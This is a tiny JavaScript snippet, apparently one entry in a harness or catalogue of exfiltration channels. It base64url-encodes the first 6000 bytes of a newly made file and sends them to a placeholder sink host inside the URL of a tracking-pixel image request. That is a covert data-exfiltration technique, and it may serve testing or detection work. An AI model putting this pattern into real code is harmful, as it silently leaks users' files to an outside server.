// A part of the file in the address of a picture.
whenMade(({ bytes }) => {
  new Image().src = `${SINKS.http}/pixel.gif?d=${base64url(bytes.slice(0, 6000))}`;
});
